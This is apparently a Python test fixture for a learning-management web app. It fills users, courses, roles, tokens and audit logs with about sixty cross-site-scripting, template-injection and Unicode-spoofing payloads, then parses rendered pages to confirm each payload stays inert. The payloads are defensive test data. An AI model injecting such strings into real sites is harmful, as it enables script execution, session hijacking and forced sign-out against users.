"""Sixty texts that would do something if a page took them for markup, and a site full of them.

Each carries the mark, by which it is found in a page; what is alive of it is an element, an
attribute or an address that no template of ours writes.
"""

from collections.abc import Callable, Iterator
from html.parser import HTMLParser

from sqlalchemy import Table, update

from coursewire.audit.calls import CallRow
from coursewire.contracts import registry
from coursewire.contracts.core_group.groupings import NewGrouping
from coursewire.contracts.core_group.groups import NewGroup
from coursewire.domain import (
    activities,
    authorised_users,
    categories,
    courses,
    groupings,
    groups,
    new_users,
    role_assignments,
    roles,
    services,
    tokens,
)
from coursewire.domain.activities import NewActivity
from coursewire.domain.authorised_users import Limits
from coursewire.domain.call import Call
from coursewire.domain.categories import NewCategory
from coursewire.domain.courses import NewCourse
from coursewire.domain.new_users import NewUser
from coursewire.domain.roles import NewRole
from coursewire.domain.services import NewService
from coursewire.domain.tokens import NewToken
from coursewire.store import audit
from coursewire.store.schema.groups import groupings as grouping_rows
from coursewire.store.schema.groups import groups as group_rows
from coursewire.store.schema.users import users as user_rows

MARK = "cwpay"
_ALERT = f"alert('{MARK}')"
PAYLOADS: tuple[str, ...] = (
    # Elements
    f"<script>{_ALERT}</script>",
    f"<ScRiPt>{_ALERT}</sCrIpT>",
    f"<script src=//{MARK}.example/x.js></script>",
    f"<<script>{_ALERT}//<</script>",
    f"</title><script>{_ALERT}</script>",
    f"</textarea><script>{_ALERT}</script>",
    f"</script><script>{_ALERT}</script>",
    f"--><script>{_ALERT}</script><!--",
    f"<img src=x onerror={_ALERT}>",
    f"<img src=x:{MARK} onerror=alert(1)//",
    f"<body onload={_ALERT}>",
    f"<iframe src=javascript:{_ALERT}></iframe>",
    f"<iframe srcdoc='<script>{_ALERT}</script>'></iframe>",
    f"<object data=javascript:{_ALERT}></object>",
    f"<embed src=javascript:{_ALERT}>",
    f"<form action=javascript:{_ALERT}><button>{MARK}</button></form>",
    f"<input autofocus onfocus={_ALERT}>",
    f"<details open ontoggle={_ALERT}>{MARK}</details>",
    f"<video><source onerror={_ALERT}></video>",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example/'>",
    f"<link rel=stylesheet href=//{MARK}.example/x.css>",
    f"<style>@import '//{MARK}.example/x.css';</style>",
    f"<style>*{{background:url(//{MARK}.example/)}}</style>",
    f"<marquee onstart={_ALERT}>{MARK}</marquee>",
    f"<a href=javascript:{_ALERT}>{MARK}</a>",
    f"<template><script>{_ALERT}</script></template>",
    f"<dialog open id={MARK}>{MARK}</dialog>",
    f"<noscript><p title='</noscript><img src=x onerror={_ALERT}>'>",
    # Out of an attribute
    f'" onmouseover="{_ALERT}" x="',
    f"' onfocus='{_ALERT}' autofocus='",
    f'"><script>{_ALERT}</script>',
    f"'><img src=x onerror={_ALERT}>",
    f'" style="background:url(//{MARK}.example)" x="',
    f"` onclick={_ALERT} `",
    f'" hx-get="/console/sign-out" hx-trigger="load" x="{MARK}',
    f'" data-copies="{MARK}" x="',
    # Addresses
    f"javascript:{_ALERT}",
    f"JaVaScRiPt:{_ALERT}",
    f"java\tscript:{_ALERT}",
    f"data:text/html,<script>{_ALERT}</script>",
    f"//{MARK}.example/",
    f"vbscript:msgbox('{MARK}')",
    # SVG and MathML
    f"<svg onload={_ALERT}>",
    f"<svg><script>{_ALERT}</script></svg>",
    f"<svg><a xlink:href='javascript:{_ALERT}'><text>{MARK}</text></a></svg>",
    f"<svg><animate onbegin={_ALERT} attributeName=x>",
    f"<math><mi xlink:href='javascript:{_ALERT}'>{MARK}</mi></math>",
    # Templates and scripts
    f"{{{{ 7*7 }}}}{MARK}",
    f"{{% raw %}}{MARK}{{% endraw %}}",
    f"${{7*7}}{MARK}",
    f"{{{{ config.items() }}}}{MARK}",
    f"<%= 7*7 %>{MARK}",
    f"\\u003cscript\\u003e{_ALERT}\\u003c/script\\u003e",
    f"&lt;script&gt;{_ALERT}&lt;/script&gt;",
    f"&#60;script&#62;{_ALERT}&#60;/script&#62;",
    # Writing that misleads
    f"{MARK}\u202egnp.exe\u202c",
    f"\u2066{MARK}\u2069\u200f\u200e",
    f"{MARK}\u200b\u200c\u200d\ufeff\u2060<b>",
    f"{MARK}\ufe64script\ufe65 \uff1cscript\uff1e",
)
# Longer than any field should be; where a column takes it, the page must bear it.
LONG = f"<script>{_ALERT}</script>" + "<b>x" * (256 * 1024)


class Alive(HTMLParser):
    """Finds in a page what only a payload can have brought in."""

    _NEVER = frozenset(
        {"base", "iframe", "object", "embed", "template", "math", "marquee", "video", "source"}
        | {"style", "noscript", "img", "b", "mi", "animate"}
    )
    _ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in self._NEVER or (tag == "script" and "src" not in values):
            self.found.append(f"<{tag}> {values}")
        for name, value in values.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{name}={value}")
            if name in self._ADDRESSES and not _is_ours(value):
                self.found.append(f"{name}={value}")
            if name.startswith("hx-") and (MARK in value or "sign-out" in value):
                self.found.append(f"{name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if tag in self._NEVER:
            self.found.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        if "49" in data and f"49{MARK}" in data:
            self.found.append(f"a template ran: {data[:80]}")


def _is_ours(address: str) -> bool:
    if address.startswith("otpauth://"):
        return MARK not in address
    return not address or (address[0] in "/#?" and not address.startswith("//"))


def check_inert(page: str, where: str) -> None:
    """Fail when something of a payload is alive in a page."""
    alive = Alive()
    alive.feed(page)
    alive.close()
    assert alive.found == [], f"{where}: {alive.found[:5]}"


def fill(new_call: Callable[[], Call]) -> None:
    """Put each payload into every text that a page shows, and into both logs."""
    service_ids: list[int] = []
    for number, payload in enumerate(PAYLOADS):
        user = _person(new_call(), number, payload)
        service_ids.append(_service(new_call(), number, payload, user))
        _role(new_call(), number, payload, user)
        _course(new_call(), number, payload)
        new = NewToken(user_id=user, service_id=service_ids[-1], name=payload)
        made = tokens.issue(new_call(), new)
        tokens.edit(new_call(), made.id, tokens.Changes(note=payload))
    call = new_call()
    with call.transaction():
        audit.append_calls(call.session, _calls(call.now))
        for payload in PAYLOADS:
            call.audit.record(payload, payload, reason=payload, note=payload)


def _person(call: Call, number: int, payload: str) -> int:
    with call.transaction():
        new = NewUser(
            username=f"pay{number}",
            firstname="Pay",
            lastname="Load",
            email=f"pay{number}@school.example",
            password_hash="not a hash",
            idnumber=payload[:255],
            description=payload,
        )
        made = new_users.create(call, new).id
        values = {
            "firstname": payload[:100],
            "lastname": payload[:100],
            "city": payload[:120],
            "institution": payload[:255],
            "department": payload[:255],
            "phone1": payload[:20],
        }
        _put(call, user_rows, made, **values)
        return made


def _put(call: Call, table: Table, row_id: int, **values: str) -> None:
    """Write what the rules keep out today: an older site, or another program, may have it."""
    call.session.execute(update(table).where(table.c.id == row_id).values(values))


def _service(call: Call, number: int, payload: str, user: int) -> int:
    with call.transaction():
        made = services.create(
            call, NewService(name=payload[:200], shortname=f"pay{number}", enabled=True)
        )
        services.add_functions(
            call, made.id, ["core_webservice_get_site_info"], registry.is_published
        )
        authorised_users.authorise(call, made.id, user, Limits())
        return made.id


def _role(call: Call, number: int, payload: str, user: int) -> None:
    with call.transaction():
        new = NewRole(
            shortname=f"pay{number}",
            name=payload[:255],
            description=payload,
            capabilities=["webservice/rest:use"],
            levels=(10, 40, 50),
        )
        role_assignments.assign(call, roles.create(call, new), user, call.site.system)


def _course(call: Call, number: int, payload: str) -> None:
    with call.transaction():
        place = categories.create(call, NewCategory(name=payload[:255], description=payload)).id
        made = courses.create(
            call,
            NewCourse(
                shortname=f"{number}{payload}"[:255],
                fullname=payload[:254],
                category=place,
                idnumber=f"{number}{payload}"[:100],
                summary=LONG if number == 0 else payload,
            ),
        ).id
        group = NewGroup(courseid=made, name="Group", description=payload)
        _put(call, group_rows, groups.create(call, group).id, name=payload[:254])
        grouping = NewGrouping(
            courseid=made, name="Grouping", description=payload, idnumber=payload[:100]
        )
        _put(call, grouping_rows, groupings.create(call, grouping).id, name=payload[:254])
        activities.create(call, NewActivity(course_id=made, module="page", name=payload[:255]))


def _calls(now: int) -> Iterator[CallRow]:
    for number, payload in enumerate(PAYLOADS):
        yield CallRow(
            time_ms=now * 1000,
            request_id=f"{number:012x}-1",
            function=payload,
            token_handle=payload,
            user_id=2,
            address=payload,
            outcome=payload,
            failed_check=payload,
            reason=payload,
            token_in_query=0,
            microseconds=80,
        )
